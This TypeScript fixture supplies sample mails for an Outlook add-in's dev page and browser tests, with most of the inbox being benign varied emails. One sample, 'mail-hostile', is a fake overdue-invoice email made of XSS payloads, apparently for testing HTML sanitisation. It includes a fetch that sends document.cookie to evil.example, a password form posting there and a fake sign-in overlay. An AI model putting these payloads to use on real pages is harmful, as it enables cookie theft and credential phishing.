/** Realistic sample mails for the local Outlook host page (/dev/outlook) and the add-in's browser tests. */
import type { DevAddress, DevMail } from '../dev-mail';

const LOGO_PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAGAAAAAgCAIAAABiouoDAAAAXUlEQVR42u3UWxVAEQBEUQ2UEE8YhW42GvjyuNhnTYL9MaGqW0AACNAyoJi/IQMECBAgQIBuAkpHBQgQoNuAnDQgQIB2ApXfBAgQoBeBnDQgQIAAAZoNJECAAC2uATISn6VVOnHQAAAAAElFTkSuQmCC';

const me: DevAddress = { name: 'Local Developer', email: 'dev@contoso.example' };
const anna: DevAddress = { name: 'Anna Becker', email: 'anna.becker@contoso.example' };
const marco: DevAddress = { name: 'Marco Rossi', email: 'marco.rossi@fabrikam.example' };
const jonas: DevAddress = { name: 'Jonas Weiß', email: 'jonas.weiss@contoso.example' };
const yuki: DevAddress = { name: '佐藤 由紀', email: 'yuki.sato@northwind.example' };

function at(now: Date, daysAgo: number, hour: number, minute = 0): string {
  const date = new Date(now);
  date.setUTCDate(date.getUTCDate() - daysAgo);
  date.setUTCHours(hour, minute, 0, 0);
  return date.toISOString();
}

const newsletter = `<html><head><style>.hide{display:none} h1{font-family:Segoe UI}</style></head><body style="margin:0;background:#f3f2f1">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="background:#f3f2f1"><tr><td align="center">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Segoe UI,Arial,sans-serif;color:#323130">
<tr><td style="background:#0f6cbd;color:#ffffff;padding:20px 24px"><h1 style="margin:0;font-size:24px">Product News · Spring release</h1></td></tr>
<tr><td style="padding:20px 24px">
<p>Hello,</p>
<p>the spring release brings <strong>three things</strong> our customers asked for most:</p>
<ol><li><b>Portfolio timeline</b> with <span style="color:#c50f1f">critical path</span> highlighting</li>
<li>Faster <em>time tracking</em> from the task list</li><li>Custom fields in reports</li></ol>
<table cellpadding="6" style="border-collapse:collapse;width:100%;border:1px solid #c8c6c4">
<thead><tr style="background:#edebe9"><th align="left">Feature</th><th align="left">Available</th></tr></thead>
<tbody><tr><td style="border-top:1px solid #c8c6c4">Portfolio timeline</td><td style="border-top:1px solid #c8c6c4">April 7</td></tr>
<tr><td style="border-top:1px solid #c8c6c4">Time tracking</td><td style="border-top:1px solid #c8c6c4">April 14</td></tr></tbody></table>
<p style="margin-top:16px"><a href="https://www.inloox.com/news/spring-release" style="background:#0f6cbd;color:#fff;padding:8px 14px;text-decoration:none;border-radius:4px">Read the release notes</a></p>
<p style="font-size:12px;color:#605e5c">You receive this email because you subscribed to product news. <a href="https://news.example.com/unsubscribe?u=8f2c">Unsubscribe</a></p>
</td></tr></table></td></tr></table>
<img src="https://track.example.com/open.gif?u=8f2c&amp;c=spring" width="1" height="1" alt="" style="display:block;width:1px;height:1px;border:0">
<div class="hide" style="display:none;max-height:0;overflow:hidden">Preheader text nobody should see</div>
</body></html>`;

const replyChain = `<html><body><div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">
<p>Hi Marco,</p>
<p>thanks — the new timeline works for us. Let's plan the <b>content freeze for May 16</b> and go live on <b>June 2</b>.
Could you create the task for the SEO check?</p>
<p>Best regards<br>Anna</p>
</div>
<div id="appendonsend"></div>
<hr style="display:inline-block;width:98%" tabindex="-1">
<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000"><b>From:</b> Marco Rossi &lt;marco.rossi@fabrikam.example&gt;<br>
<b>Sent:</b> Tuesday, April 8, 2025 4:12 PM<br><b>To:</b> Anna Becker &lt;anna.becker@contoso.example&gt;<br>
<b>Subject:</b> Website relaunch – timeline</font><div>&nbsp;</div></div>
<div><p>Hello Anna,</p><p>attached is the updated timeline for the relaunch. The agency needs the final texts two weeks before go-live.</p>
<p>Marco</p>
<blockquote style="border-left:2px solid #ccc;padding-left:8px"><p>On Monday, Anna wrote:</p><p>Can we move the go-live to June?</p></blockquote></div>
</body></html>`;

const plainText = `Hi team,

the data center will patch the application servers on Saturday between 06:00 and 10:00 (CET).
During that window InLoox may be slow or unavailable for a few minutes.

Please:
- save your work before 06:00
- don't start long exports

Thanks,
Jonas

-----Original Message-----
From: IT Operations <it-ops@contoso.example>
Sent: Monday 09:15
Subject: Patch window

> Patch window confirmed for Saturday 06:00–10:00.
> Affected: app01, app02.`;

const german = `<html><body style="font-family:Segoe UI,sans-serif">
<p>Hallo zusammen,</p>
<p>ich lade euch zur <strong>Abstimmung des Projektplans für Q3</strong> ein. Themen:</p>
<ul><li>Meilensteine &amp; Zuständigkeiten</li><li>Budgetübersicht (Größenordnung, Rückstellungen)</li><li>Risiken: Lieferverzögerungen bei Bauteilen</li></ul>
<p>Bitte bringt eure Schätzungen mit. Grüße aus Köln,<br>Jonas Weiß</p>
<p style="color:#605e5c;font-size:9pt">Besprechungsraum „Rhein“ · Microsoft Teams-Besprechung</p>
</body></html>`;

const inlineImage = `<html><body style="font-family:Arial,sans-serif">
<p>Hi,</p><p>here is the logo for the partner portal, as agreed:</p>
<p><img src="cid:logo-portal@contoso.example" alt="Partner portal logo" width="96" height="32"></p>
<p>The dark variant is below (the PDF has all sizes):</p>
<p><img src="cid:logo-dark@contoso.example" alt="Dark logo variant"></p>
<p>Anna</p></body></html>`;

const hostile = `<html><head><script>alert('head')</script><style>body{background:url(javascript:alert(1))}</style></head>
<body onload="alert('onload')">
<p>Dear customer,</p>
<p>your invoice <b>#4711</b> is overdue. Please confirm the payment <a href="javascript:alert(document.cookie)">here</a>
or <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">download it</a>.</p>
<img src="x" onerror="alert('img')" alt="broken">
<script>fetch('https://evil.example/steal?c='+document.cookie)</script>
<iframe src="https://evil.example/frame" width="400" height="300"></iframe>
<form action="https://evil.example/login" method="post"><input name="password" type="password"><button>Log in</button></form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">Your session expired. Sign in again.</div>
<a href="https://www.contoso.example/invoices/4711" onclick="alert('click')">Invoice portal</a>
<svg onload="alert('svg')"><circle r="10"></circle></svg>
<img src="https://evil.example/pixel.gif?id=42" width="1" height="1">
<p>Regards<br>Accounts receivable</p>
</body></html>`;

const nonLatin = `<html><body>
<p>Dear Anna,</p>
<p>please find our quote below. 見積書を送付いたします。ご確認のほどよろしくお願いいたします。</p>
<table border="1" cellpadding="4" style="border-collapse:collapse">
<tr><th>品目 (Item)</th><th>数量</th><th>Цена (price)</th></tr>
<tr><td>センサー Typ Ä</td><td>120</td><td>€ 14,50</td></tr>
<tr><td>Κάλυμμα (cover)</td><td>120</td><td>€ 2,10</td></tr></table>
<p>よろしくお願いします。<br>佐藤 由紀</p></body></html>`;

function longReport(): string {
  const paragraph = (i: number) =>
    `<h3>Section ${i}</h3><p>Revenue in region ${i} grew by ${(i % 7) + 2}% compared with the previous quarter. ` +
    'The team delivered all planned milestones, with two exceptions documented in the risk register. '.repeat(6) +
    `</p><ul><li>Open items: ${i % 5}</li><li>Owner: Team ${i % 9}</li></ul>`;
  return `<html><body><p>Dear all,</p><p>here is the full text of the quarterly report.</p>${Array.from(
    { length: 500 },
    (_, i) => paragraph(i + 1),
  ).join('')}<p>End of report.</p></body></html>`;
}

/** The sample inbox; dates are relative to `now` so the list always looks current. */
export function devSampleMails(now = new Date()): DevMail[] {
  return [
    {
      id: 'mail-newsletter',
      internetMessageId: '<spring-2025.8f2c@news.inloox.example>',
      conversationId: 'AAQkADevConvNewsletter',
      kind: 'Rich HTML newsletter',
      itemType: 'message',
      subject: 'Product News: the spring release is here',
      from: { name: 'InLoox Product News', email: 'news@inloox.example' },
      to: [me],
      cc: [],
      date: at(now, 0, 7, 30),
      bodyType: 'html',
      body: newsletter,
      attachments: [],
    },
    {
      id: 'mail-reply-chain',
      internetMessageId: '<AM0PR01MB4711.relaunch-2@contoso.example>',
      conversationId: 'AAQkADevConvRelaunch',
      kind: 'Reply chain',
      itemType: 'message',
      subject: 'RE: Website relaunch – timeline',
      from: anna,
      to: [marco],
      cc: [me, jonas],
      date: at(now, 0, 9, 12),
      bodyType: 'html',
      body: replyChain,
      attachments: [
        {
          id: 'att-timeline',
          name: 'Relaunch-Timeline.xlsx',
          contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
          size: 48213,
          isInline: false,
        },
      ],
    },
    {
      id: 'mail-plain-text',
      internetMessageId: '<maintenance-sat@contoso.example>',
      conversationId: 'AAQkADevConvMaintenance',
      kind: 'Plain text',
      itemType: 'message',
      subject: 'Server maintenance window on Saturday',
      from: jonas,
      to: [me, anna],
      cc: [],
      date: at(now, 1, 15, 40),
      bodyType: 'text',
      body: plainText,
      attachments: [],
    },
    {
      id: 'mail-german',
      internetMessageId: '<einladung-q3-plan@contoso.example>',
      conversationId: 'AAQkADevConvProjektplan',
      kind: 'German text, meeting request',
      itemType: 'meetingRequest',
      subject: 'Einladung: Abstimmung Projektplan Q3 – Größe & Budget',
      from: jonas,
      to: [me, anna],
      cc: [],
      date: at(now, 1, 10, 5),
      end: at(now, -10, 15, 0),
      bodyType: 'html',
      body: german,
      attachments: [],
    },
    {
      id: 'mail-inline-image',
      internetMessageId: '<logo-portal-1@contoso.example>',
      conversationId: 'AAQkADevConvLogo',
      kind: 'Inline image',
      itemType: 'message',
      subject: 'Logo for the partner portal',
      from: anna,
      to: [me],
      cc: [],
      date: at(now, 2, 13, 20),
      bodyType: 'html',
      body: inlineImage,
      attachments: [
        {
          id: 'att-logo',
          name: 'logo-portal.png',
          contentType: 'image/png',
          size: 150,
          isInline: true,
          contentId: 'logo-portal@contoso.example',
          base64: LOGO_PNG,
        },
        // Inline, but its bytes are not available: the description gets a note instead of a broken image.
        {
          id: 'att-logo-dark',
          name: 'logo-dark.png',
          contentType: 'image/png',
          size: 2_400_000,
          isInline: true,
          contentId: 'logo-dark@contoso.example',
        },
        { id: 'att-logos-pdf', name: 'Logo-Sizes.pdf', contentType: 'application/pdf', size: 312_000, isInline: false },
      ],
    },
    {
      id: 'mail-hostile',
      internetMessageId: '<invoice-4711@contoso-payments.example>',
      conversationId: 'AAQkADevConvInvoice',
      kind: 'Hostile HTML',
      itemType: 'message',
      subject: 'Invoice #4711 – action required',
      from: { name: 'Accounts Receivable', email: 'billing@contoso-payments.example' },
      to: [me],
      cc: [],
      date: at(now, 2, 8, 0),
      bodyType: 'html',
      body: hostile,
      attachments: [],
    },
    {
      id: 'mail-non-latin',
      internetMessageId: '<quote-sensors-7@northwind.example>',
      conversationId: 'AAQkADevConvQuote',
      kind: 'Non-Latin text',
      itemType: 'message',
      subject: '見積書の送付 / Quote for sensors (Angebot Sensoren)',
      from: yuki,
      to: [anna],
      cc: [me],
      date: at(now, 3, 3, 45),
      bodyType: 'html',
      body: nonLatin,
      attachments: [],
    },
    {
      id: 'mail-no-body',
      internetMessageId: '<quick-sync-3@fabrikam.example>',
      conversationId: 'AAQkADevConvSync',
      kind: 'No body',
      itemType: 'message',
      subject: 'Quick sync at 3?',
      from: marco,
      to: [me],
      cc: [],
      date: at(now, 3, 11, 0),
      bodyType: 'html',
      body: '',
      attachments: [],
    },
    {
      id: 'mail-very-long',
      internetMessageId: '<q2-report-full@contoso.example>',
      conversationId: 'AAQkADevConvReport',
      kind: 'Very long body',
      itemType: 'message',
      subject: 'Quarterly report Q2 (full text)',
      from: anna,
      to: [me, jonas, marco],
      cc: [],
      date: at(now, 4, 16, 30),
      bodyType: 'html',
      body: longReport(),
      attachments: [],
    },
    {
      id: 'mail-relaunch-followup',
      kind: 'Same conversation',
      itemType: 'message',
      internetMessageId: '<AM0PR01MB4711.relaunch-3@fabrikam.example>',
      conversationId: 'AAQkADevConvRelaunch',
      subject: 'RE: Website relaunch – timeline',
      from: marco,
      to: [anna],
      cc: [me],
      date: at(now, 0, 10, 2),
      bodyType: 'text',
      body: 'Hi Anna,\n\nMay 16 for the content freeze is fine. I will send the SEO checklist on Friday.\n\nMarco',
      attachments: [],
    },
    {
      id: 'mail-draft',
      kind: 'Draft without message id',
      itemType: 'message',
      subject: 'Draft: notes for the steering meeting',
      from: me,
      to: [anna],
      cc: [],
      date: at(now, 0, 11, 15),
      bodyType: 'text',
      body: 'Agenda: budget, timeline, open risks.',
      attachments: [],
    },
  ];
}
